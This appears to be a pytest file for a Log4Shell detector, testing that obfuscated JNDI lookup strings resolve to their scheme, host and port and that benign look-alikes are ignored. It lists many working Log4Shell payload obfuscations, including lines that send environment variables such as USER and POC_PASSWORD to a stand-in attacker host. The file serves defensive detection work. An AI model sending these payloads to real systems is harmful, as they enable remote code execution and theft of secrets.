"""The normaliser: obfuscated lookup strings in, Log4j's resolved lookup and its target out."""

from __future__ import annotations

import base64

import pytest

from kubectl_netmon.detect.log4shell.normalise import basic_credentials, find_lookups

B64 = base64.b64encode(b"${jndi:ldap://b64.example:1389/x}").decode()

# (payload, normalised form, scheme, host, port)
OBFUSCATED = [
    ("${jndi:ldap://h.example:1389/a}", "${jndi:ldap://h.example:1389/a}", "ldap", "h.example",
     1389),
    ("${${lower:j}ndi:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${j${upper:n}di:rmi://h:1099/a}", "${jndi:rmi://h:1099/a}", "rmi", "h", 1099),
    ("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h/a}", "${jndi:ldap://h/a}",
     "ldap", "h", 389),
    ("${${::::::::::-j}ndi:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${${:  : ::-j}ndi:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${${env:NOPE:-j}ndi:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//h/a}", "${jndi:ldap://h/a}",
     "ldap", "h", 389),
    ("${jnd${sys:X:-i}:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${${date:'j'}${date:'n'}di:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${${abc:def:ghi:-j}ndi:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${${lower:${lower:jndi}}:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("${JnDi:LdAp://H.Example:1389/a}", "${jndi:ldap://H.Example:1389/a}", "ldap", "H.Example",
     1389),
    ("${jnd${upper:\u0131}:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h", 389),
    ("%24%7Bjndi%3Aldap%3A%2F%2Fh%3A1389%2Fa%7D", "${jndi:ldap://h:1389/a}", "ldap", "h", 1389),
    ("%2524%257Bjndi%253Aldap%253A%252F%252Fh%253A1389%252Fa%257D", "${jndi:ldap://h:1389/a}",
     "ldap", "h", 1389),
    (f"${{base64:{B64}}}", "${jndi:ldap://b64.example:1389/x}", "ldap", "b64.example", 1389),
    ("\\u0024\\u007b\\u006a\\u006e\\u0064\\u0069:ldap://h/a}", "${jndi:ldap://h/a}", "ldap", "h",
     389),
    ("${jndi:ldap://127.0.0.1#evil.example:1389/a}", "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
     "ldap", "127.0.0.1#evil.example", 1389),
    ("${jndi:dns://10.10.10.31/${env:POC_PASSWORD}}", "${jndi:dns://10.10.10.31/${env:POC_PASSWORD}}",
     "dns", "10.10.10.31", 53),
    ("${jndi:ldap://${env:USER}.attacker.example/a}",
     "${jndi:ldap://${env:USER}.attacker.example/a}", "ldap", "${env:USER}.attacker.example", 389),
    ("${jndi:ldap://[2001:db8::5]:1389/a}", "${jndi:ldap://[2001:db8::5]:1389/a}", "ldap",
     "2001:db8::5", 1389),
]

SCHEMES = [("ldap", 389), ("ldaps", 636), ("rmi", 1099), ("dns", 53), ("iiop", 900),
           ("corba", 2809), ("nds", 524), ("nis", 111), ("http", 80)]

BENIGN = [
    "${HOME}/bin:${PATH}",
    "Hello ${user.name}, your order ${order.id} shipped",
    '{"price": "$", "items": {}, "template": "${x}"}',
    "${jndi:java:comp/env/jdbc/db}",  # a local JNDI name, as in Log4j configs
    "the jndi package documentation",
    "${jndi:ldap://unclosed",
    "%24%7BHOME%7D",
    "${base64:aGVsbG8=}",
]


@pytest.mark.parametrize(("payload", "normalised", "scheme", "host", "port"), OBFUSCATED)
def test_obfuscated_lookup_resolves_to_its_jndi_target(payload, normalised, scheme, host, port):
    [lookup] = find_lookups(payload.encode("utf-8"))
    assert (lookup.normalised, lookup.scheme, lookup.host, lookup.port) == (
        normalised, scheme, host, port)


@pytest.mark.parametrize("payload", [p for p, *_ in OBFUSCATED])
def test_raw_is_the_matched_text_as_sent(payload):
    data = b"prefix " + payload.encode("utf-8") + b" suffix"
    [lookup] = find_lookups(data)
    assert lookup.raw == payload.encode("utf-8").decode("latin-1")


@pytest.mark.parametrize(("scheme", "default_port"), SCHEMES)
def test_every_jndi_scheme_is_found_with_its_default_port(scheme, default_port):
    [lookup] = find_lookups(f"${{jndi:{scheme}://cb.example/x}}".encode())
    assert (lookup.scheme, lookup.host, lookup.port) == (scheme, "cb.example", default_port)


@pytest.mark.parametrize(("scheme", "default_port"), SCHEMES)
def test_explicit_port_wins_over_the_default(scheme, default_port):
    [lookup] = find_lookups(f"${{jndi:{scheme}://cb.example:4444/x}}".encode())
    assert lookup.port == 4444


@pytest.mark.parametrize("payload", BENIGN)
def test_benign_look_alikes_are_not_lookups(payload):
    assert find_lookups(payload.encode(), allow_bare=True) == []


def test_bare_jndi_url_counts_only_when_allowed():
    data = b"User-Agent: jndi:ldap://172.16.238.11:1389/a"
    assert find_lookups(data) == []
    [lookup] = find_lookups(data, allow_bare=True)
    assert (lookup.host, lookup.port) == ("172.16.238.11", 1389)


def test_same_lookup_twice_is_reported_once():
    assert len(find_lookups(b"${jndi:ldap://h/a} and %24%7Bjndi:ldap://h/a%7D")) == 1


def test_two_different_lookups_are_both_reported():
    found = find_lookups(b"${jndi:ldap://a.example/x} ${jndi:rmi://b.example/y}")
    assert [lk.host for lk in found] == ["a.example", "b.example"]


def test_basic_credentials_are_decoded():
    value = "Basic " + base64.b64encode(b"admin:${jndi:ldap://h/a}").decode()
    assert basic_credentials(value) == b"admin:${jndi:ldap://h/a}"


def test_non_basic_authorization_has_no_credentials():
    assert basic_credentials("Bearer abc") == b""


def test_hostile_nesting_is_bounded():
    data = b"${" * 20000 + b"jndi:ldap://h/a" + b"}" * 20000
    assert isinstance(find_lookups(data), list)
